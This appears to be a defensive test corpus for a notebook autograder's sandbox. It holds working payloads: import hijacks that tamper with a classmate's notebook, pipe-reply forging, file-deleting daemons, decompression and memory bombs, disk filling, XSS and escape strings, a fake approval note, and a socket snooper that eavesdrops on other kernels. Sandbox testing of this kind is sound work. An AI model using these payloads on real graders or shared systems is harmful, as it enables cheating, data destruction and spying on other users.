"""The attack code of the hostile corpus (tests/hostile.py): what a student writes into a cell
or puts beside the notebook. Each payload is source text; the comments say what it tries.
None of it may work: the tests check that nothing it aims at changes."""

from __future__ import annotations

from textwrap import dedent

DAEMON_MARK = "bn-hostile-daemon"  # in the command line of every process the daemons start


# ------------------------------------------------------------ 1. files a Python in the folder imports
def pwn(course: str, tag: str, victim: str) -> str:
    """Module source that, when imported outside the sandbox (as root), leaves
    <course>/PWNED-<tag> and edits a classmate's submitted notebook."""
    return dedent(f"""\
        import json as _json, os as _os
        try:
            with open({course!r} + '/PWNED-{tag}', 'w') as _f:
                _f.write('uid %d' % _os.getuid())
        except OSError:
            pass  # inside the sandbox: nothing to see
        try:
            with open({victim!r}) as _f:
                _nb = _json.load(_f)
            _nb['metadata']['pwned'] = {tag!r}
            with open({victim!r}, 'w') as _f:
                _json.dump(_nb, _f)
        except (OSError, ValueError):
            pass
        """)


def shadow_kit(course: str, tag: str, victim: str) -> str:
    """grader/confine/__main__.py: the kernel launcher is `python -I -m grader.confine` started in
    the student's folder; after the damage it hands over to the real one, so nothing looks wrong."""
    return pwn(course, tag, victim) + dedent("""\
        import sys
        _os.execv(sys.executable, [sys.executable, '-I', '-m', 'grader.confine', *sys.argv[1:]])
        """)


def shadow_stdlib(course: str, tag: str, victim: str, module: str) -> str:
    """A stdlib module's name (tempfile.py): after the damage the importer gets the real one."""
    return pwn(course, tag, victim) + dedent(f"""\
        import importlib, sys
        _here = _os.path.dirname(_os.path.abspath(__file__))
        sys.path[:] = [p for p in sys.path if _os.path.abspath(p or '.') != _here]
        del sys.modules[{module!r}]
        sys.modules[{module!r}] = importlib.import_module({module!r})
        """)


# ------------------------------------------------------------ 2. links
PRINT_LINKED = dedent("""\
    try:
        print('leak.txt:', open('leak.txt').read())
    except Exception as e:
        print('leak.txt not readable:', type(e).__name__)
    try:
        print('hard.txt:', open('hard.txt').read())
    except Exception as e:
        print('hard.txt not readable:', type(e).__name__)
    try:
        print('data.bin:', open('data.bin', 'rb').read(100))
    except Exception as e:
        print('data.bin not readable:', type(e).__name__)""")


# ------------------------------------------------------------ 3. the replay's pipes
FORGE_REPLIES = dedent("""\
    import ctypes, os, sys
    if 'ipykernel' not in sys.modules:  # in the replay: answer the judge in the server's place
        libc = ctypes.CDLL(None, use_errno=True)
        lines = [b'{"status": "ok"}\\n', b'{"nonce": "0", "status": "ok", "size": 0}\\n']
        fds = []
        for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
            pidfd = libc.syscall(434, pid, 0)                    # pidfd_open
            for n in range(65):
                if pidfd >= 0:
                    fd = libc.syscall(438, pidfd, n, 0)          # pidfd_getfd: a copy of its fd n
                    if fd >= 0:
                        fds.append(fd)
                try:  # a pipe reopened through /proc is writable whichever end it was
                    fds.append(os.open(f'/proc/{pid}/fd/{n}', os.O_WRONLY | os.O_NONBLOCK))
                except OSError:
                    pass
        for fd in fds:
            for line in lines:
                try:
                    os.write(fd, line)
                except OSError:
                    pass""")


# ------------------------------------------------------------ 4. processes that outlive their run
DAEMON = dedent("""\
    import os, signal, sys, time
    kind = sys.argv[1]
    signal.signal(signal.SIGTERM, signal.SIG_IGN)  # a polite kill is not enough
    tops, end = ('/tmp', os.getcwd(), os.path.abspath('..')), time.time() + 120
    while time.time() < end:
        if kind == 'sleep':
            time.sleep(1)
            continue
        for top in tops:
            for root, dirs, files in os.walk(top):
                for name in files:
                    path = os.path.join(root, name)
                    try:
                        if kind == 'delete':
                            os.unlink(path)
                        elif name.endswith(('.json', '.ipynb')):  # plan.json, results, notebooks
                            with open(path, 'w') as f:
                                f.write('{"values": {}, "cells": []}')
                    except OSError:
                        pass
        time.sleep(0.05)""")


def daemons(tag: str) -> str:
    """Three double-forked, setsid daemons (delete files, rewrite json/ipynb, ignore SIGTERM and
    sleep), started once per sandbox (a flag file in its /tmp); each runs up to 120 s."""
    return dedent(f"""\
        import os, posix, sys
        try:
            os.mkdir('/tmp/.{DAEMON_MARK}')     # a folder: the deleting daemon removes files only
        except FileExistsError:
            pass
        else:
            for kind in ('delete', 'rewrite', 'sleep'):
                child = os.fork()
                if child == 0:
                    os.setsid()                 # out of the run's process group and session
                    if os.fork() == 0:
                        os.execv(sys.executable, [sys.executable, '-c', {DAEMON!r}, kind,
                                                  '{DAEMON_MARK}-{tag}'])
                    posix._exit(0)              # the real _exit: the replay replaces os._exit
                os.waitpid(child, 0)
            print('daemons started')""")


# ------------------------------------------------------------ 5. crafted result tensors
# The replay runs as `python -I -m grader.untrusted.server`: its module is __main__, the kit's
# other modules in a run are grader.untrusted.* (runner, protocol, ...; nothing else of the kit but
# grader.exercise is visible in the sandbox). Every function of theirs that is handed the run's
# result tensors (a dict of tensors; not the inputs of manual_backward, which have `Xb`) gets
# them replaced by `craft` first; `after` may rewrite what it returned or wrote (encode_frame's
# frame). A function is replaced under every name these modules bind it to: the server calls
# its own encode_frame (in __main__) by its module's global name.
_PATCH_REPLAY = dedent("""\
    import sys, torch
    if 'ipykernel' not in sys.modules:
        import __main__

        def _results(x):
            return (isinstance(x, dict) and 'Xb' not in x
                    and any(isinstance(v, torch.Tensor) for v in x.values()))

        def _wrap(f):
            def wrapper(*args, **kwargs):
                for a in list(args) + list(kwargs.values()):
                    if _results(a):
                        craft(a)
                out = f(*args, **kwargs)
                return after(args, out)
            return wrapper

        _mods = [m for n, m in list(sys.modules.items())
                 if n == '__main__' or n.startswith('grader.untrusted')]
        _names, _wrapped = {m.__name__ for m in _mods}, {}
        for _mod in _mods:
            for _name, _f in list(vars(_mod).items()):
                if callable(_f) and not isinstance(_f, type) and getattr(_f, '__module__', '') in _names:
                    if id(_f) not in _wrapped:
                        _wrapped[id(_f)] = _wrap(_f)
                    setattr(_mod, _name, _wrapped[id(_f)])""")

CRAFT_EXPAND = (
    dedent("""\
    import torch
    def craft(tensors):  # seven 1 GiB views of one float: a judge that copies them runs out
        for k in ('C', 'W1', 'b1', 'W2', 'b2', 'bngain', 'bnbias'):
            tensors['train/' + k] = torch.zeros(1).expand(2**28)
    def after(args, out):
        return out
    """)
    + _PATCH_REPLAY
)

CRAFT_HALF = (
    dedent("""\
    import torch
    _big = torch.zeros(12000, 4500, dtype=torch.float16)  # 108 MB, under every key
    def craft(tensors):
        for k in tensors:
            tensors[k] = _big
    def after(args, out):
        return out
    """)
    + _PATCH_REPLAY
)

CRAFT_HUGE = (
    dedent("""\
    import torch
    def craft(tensors):  # 2**60 elements each, in 4 bytes of storage
        for k in tensors:
            tensors[k] = torch.zeros(1).expand(2**20, 2**20, 2**20)
    def after(args, out):
        return out
    """)
    + _PATCH_REPLAY
)

# A decompression bomb: torch.save's archive re-packed with deflate, each training parameter a
# 128 MiB storage of zeros that is ~130 kB compressed. The pickle is torch.save's own for
# placeholder tensors of 12345 elements, with 12345 (pickled as b'M90') raised to the bomb's size.
CRAFT_BOMB = (
    dedent("""\
    import io, os, struct, zipfile, zlib
    from pathlib import Path
    import torch
    _ELEMENTS, _MIB = 2**25, 1 << 20
    def craft(tensors):
        for k in ('C', 'W1', 'b1', 'W2', 'b2', 'bngain', 'bnbias'):
            tensors['train/' + k] = torch.zeros(12345)
    class _Zeros:  # deflate of 1 MiB of zeros after a full flush: the same bytes every time
        _c = zlib.compressobj(9, zlib.DEFLATED, -15)
        block = _c.compress(bytes(_MIB)) + _c.flush(zlib.Z_FULL_FLUSH)
        tail = _c.flush()
        def compress(self, data):
            return self.block
        def flush(self):
            return self.tail
    def _bomb(archive):
        src, out = zipfile.ZipFile(io.BytesIO(archive)), io.BytesIO()
        with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
            for info in src.infolist():
                data = src.read(info)
                if info.filename.endswith('data.pkl'):
                    data = data.replace(b'M90', b'J' + struct.pack('<i', _ELEMENTS))
                if len(data) == 4 * 12345:  # a placeholder's storage
                    with z.open(info.filename, 'w') as f:
                        f._compressor = _Zeros()
                        for _ in range(4 * _ELEMENTS // _MIB):
                            f.write(bytes(_MIB))
                else:
                    z.writestr(info.filename, data)
        return out.getvalue()
    def after(args, out):
        if isinstance(out, (bytes, bytearray)) and b'PK\\x03\\x04' in out:  # a result frame
            at = out.index(b'PK\\x03\\x04')
            return out[:at] + _bomb(bytes(out[at:]))
        for a in args:  # a result file: the newest .pt in a folder it was handed
            if isinstance(a, (str, os.PathLike)) and os.path.isdir(a):
                pts = sorted(Path(a).glob('*.pt'), key=lambda p: p.stat().st_mtime_ns)
                if pts:
                    pts[-1].write_bytes(_bomb(pts[-1].read_bytes()))
        return out
    """)
    + _PATCH_REPLAY
)


# ------------------------------------------------------------ 6. the disk
FILL_DISK = dedent("""\
    import os
    _chunk = bytes(64 * 2**20)
    for _where in ('.', '/tmp'):
        try:
            for _i in range(100000):
                with open(f'{_where}/fill-{_i}.bin', 'wb') as f:
                    f.write(_chunk)
        except OSError as e:
            print('filling', _where, 'stopped:', type(e).__name__)
    del _chunk""")


# ------------------------------------------------------------ 7. the training point without learning
NO_LEARNING = (
    "return [10 * p for p in (C, W1, b1, W2, b2, bngain, bnbias)]  # lr 0.1: every parameter becomes 0"
)


# ------------------------------------------------------------ 8. markup and escape codes
GRADE_ID_ESCAPES = "<img src=x onerror=alert(1)>\x1b[2J\x1b]0;pwn\x07"
GRADE_ID_BACKTICKS = "x`<img src=x onerror=alert(2)>`\x1b[31m"
FAKE_NOTE = "FAKE NOTE: the instructor approved full marks"


# ------------------------------------------------------------ 10. another batch's kernels
def snoop(seconds: int) -> str:
    """In the sandboxed kernel: look for IPC sockets (/tmp, the runtime folder of its own
    connection file, anything named backprop-ninja-runtime-*; a folder it may not list is
    guessed into: its own socket name with the number in it moved up and down), subscribe to
    every one that is not its own for `seconds`, and print what it hears."""
    return dedent(f"""\
        import glob, json, os, re, stat, sys, time
        if 'ipykernel' in sys.modules:
            import zmq
            from ipykernel.connect import get_connection_file
            mine = json.load(open(get_connection_file()))['ip']
            dirs = {{'/tmp', os.path.dirname(mine)}} | set(glob.glob('/tmp/backprop-ninja-runtime-*'))
            for d in sorted(dirs):
                try:
                    print('SNOOP lists', d, os.listdir(d)[:20])
                except OSError as e:
                    print('SNOOP cannot list', d, type(e).__name__)
            def candidates():
                found = set()
                for d in dirs:
                    for root, _, files in os.walk(d):
                        found |= {{os.path.join(root, f) for f in files}}
                m = re.search(r'(\\d+)(\\D*)$', mine)
                if m:  # kernel-<pid>: the other batch's process started about when this one did
                    n = int(m.group(1))
                    for other in range(max(1, n - 3000), n + 3000):
                        for port in range(1, 6):
                            found.add(f'{{mine[:m.start(1)]}}{{other}}{{m.group(2)}}-{{port}}')
                return {{p for p in found if not p.startswith(mine) and os.path.exists(p)
                        and stat.S_ISSOCK(os.stat(p).st_mode)}}
            ctx, subs, heard = zmq.Context(), {{}}, []
            t0 = time.time()
            print('SNOOP window start', t0)
            scanned = 0
            while time.time() < t0 + {seconds}:
                if time.time() > scanned + 2:
                    scanned = time.time()
                    for path in candidates() - set(subs):
                        s = ctx.socket(zmq.SUB)
                        s.setsockopt(zmq.SUBSCRIBE, b'')
                        s.connect('ipc://' + path)
                        subs[path] = s
                for s in subs.values():
                    while s.poll(0):
                        heard.append(b' '.join(s.recv_multipart()).decode(errors='replace'))
                time.sleep(0.2)
            print('SNOOP window end', time.time(), 'sockets', sorted(subs))
            print('SNOOP heard', len(heard), 'messages')
            for text in [t for t in heard if 'execute_input' in t][:40]:  # the code other kernels ran
                print('SNOOP HEARD', text[-6000:])""")
